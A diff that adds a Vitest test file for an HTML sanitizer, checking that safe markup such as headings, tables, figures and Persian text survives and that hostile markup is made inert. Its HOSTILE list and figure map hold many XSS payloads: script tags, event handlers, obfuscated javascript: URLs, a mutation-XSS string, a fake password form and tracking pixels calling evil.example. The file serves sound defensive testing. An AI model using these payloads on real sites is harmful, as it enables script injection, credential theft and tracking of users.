@@ -1,0 +1,134 @@
+import { describe, expect, it } from 'vitest'
+import { renderPage } from './renderPage.ts'
+
+const NO_FIGURES = new Map<string, string>()
+
+function rendered(html: string, figures = NO_FIGURES): HTMLElement {
+  const page = document.createElement('div')
+  page.innerHTML = String(renderPage(html, figures))
+  return page
+}
+
+describe('what a page may say', () => {
+  it.each([
+    '<h1>Title</h1><h6 lang="fa" dir="rtl">حاشیه</h6>',
+    '<p>One<br>two <strong>b</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>s</s> <strike>x</strike></p>',
+    '<blockquote><pre><code>let x</code></pre></blockquote>',
+    '<ul><li>a</li></ul><ol><li>b</li></ol>',
+    '<figure><img src="/api/download/salt/a.png" alt="A" width="3" height="4"><figcaption>A</figcaption></figure>',
+    '<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
+    'H<sub>2</sub>O<sup>2</sup> می\u200cخوانم',
+    '<span class="note" title="a note">x</span>',
+  ])('keeps %s', (html) => expect(rendered(html).innerHTML).toBe(html))
+})
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="java&#9;script:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="blob:https://evil.example/x">x</a>',
+  '<a href="filesystem:https://evil.example/x">x</a>',
+  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>*{display:none}</style>',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '<video src="https://evil.example/x" onerror=alert(1)></video>',
+  '<audio src="x" onerror=alert(1)></audio>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<body onload=alert(1)>',
+  '<div onclick="alert(1)" onmouseover="alert(1)">x</div>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<img src="//evil.example/pixel.gif">',
+  '<img srcset="https://evil.example/pixel.gif 1x">',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<img src="/api/download/../session">',
+  '<picture><source srcset="https://evil.example/x"><img src="x"></picture>',
+  '<input type="image" src="https://evil.example/x">',
+  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  '<p style="position:fixed;inset:0;z-index:99999">x</p>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
+  '<a xlink:href="javascript:alert(1)">x</a>',
+  '<x-widget is="evil" onclick=alert(1)>x</x-widget>',
+  '<div data-x="1" aria-label="Close" role="button" tabindex="0" contenteditable>x</div>',
+]
+const INERT_TAGS = new Set('H1 P BR DIV SPAN IMG A TABLE TBODY TR TD'.split(' '))
+const INERT_ATTRIBUTES = new Set(['class', 'id', 'title', 'alt', 'href', 'target', 'rel', 'style'])
+
+describe('what a page may not do', () => {
+  it.each(HOSTILE)('is made inert: %s', (html) => {
+    for (const element of rendered(html).querySelectorAll('*')) {
+      expect(INERT_TAGS).toContain(element.tagName)
+      for (const { name } of element.attributes) expect(INERT_ATTRIBUTES).toContain(name)
+      expect(element.getAttribute('style') ?? '').not.toMatch(/url|fixed|z-index/)
+      const href = element.getAttribute('href')
+      if (href !== null) expect(href).toMatch(/^https:/)
+    }
+  })
+
+  it('keeps the words of a dropped tag', () => expect(rendered('<marquee>kept</marquee>').textContent).toBe('kept'))
+})
+
+describe('links', () => {
+  it('open elsewhere, knowing nothing of the library', () =>
+    expect(rendered('<a href="https://example.org/" target="_top" rel="opener">x</a>').innerHTML).toBe(
+      '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
+    ))
+  it('inside the page follow the ids, which get a prefix', () =>
+    expect(rendered('<a href="#note" target="_blank">x</a><p id="note">y</p>').innerHTML).toBe(
+      '<a href="#user-content-note">x</a><p id="user-content-note">y</p>',
+    ))
+  it('keep an id from naming a property of the window', () =>
+    expect(rendered('<a id="location">x</a>').innerHTML).toBe('<a id="user-content-location">x</a>'))
+  it('may write a letter', () => expect(rendered('<a href="mailto:a@b.c">x</a>').innerHTML).toContain('mailto:a@b.c'))
+})
+
+describe('figures', () => {
+  const figures = new Map([
+    ['شکل ۱.png', '/api/download/salt/%D8%B4.png'],
+    ['evil.png', 'javascript:alert(1)'],
+    ['far.png', 'https://evil.example/x.png'],
+    ['close.png', '"><script>alert(1)</script>'],
+  ])
+  const source = (html: string) => rendered(html, figures).querySelector('img')?.getAttribute('src') ?? null
+
+  it('get the URL that the info file gives', () =>
+    expect(source('<img src="شکل ۱.png">')).toBe('/api/download/salt/%D8%B4.png'))
+  it('may be named in their folder', () =>
+    expect(source('<img src="figures/شکل ۱.png">')).toBe('/api/download/salt/%D8%B4.png'))
+  it('may be named in percent signs', () =>
+    expect(source(`<img src="${encodeURIComponent('شکل ۱.png')}">`)).toBe('/api/download/salt/%D8%B4.png'))
+  it('are judged after their URL is put in', () => {
+    expect(source('<img src="evil.png">')).toBeNull()
+    expect(source('<img src="far.png">')).toBeNull()
+    expect(source('<img src="close.png">')).toBeNull()
+  })
+  it('leave their words where they cannot be shown', () =>
+    expect(rendered('<img src="missing.png" alt="A lamp">').innerHTML).toBe('<img alt="A lamp">'))
+  it('may lie in the page itself', () =>
+    expect(source('<img src="data:image/png;base64,AAAA">')).toBe('data:image/png;base64,AAAA'))
+  it('of one page are not those of the next', () => {
+    rendered('<img src="شکل ۱.png">', figures)
+    expect(rendered('<img src="شکل ۱.png">').querySelector('img')?.getAttribute('src')).toBeNull()
+  })
+})
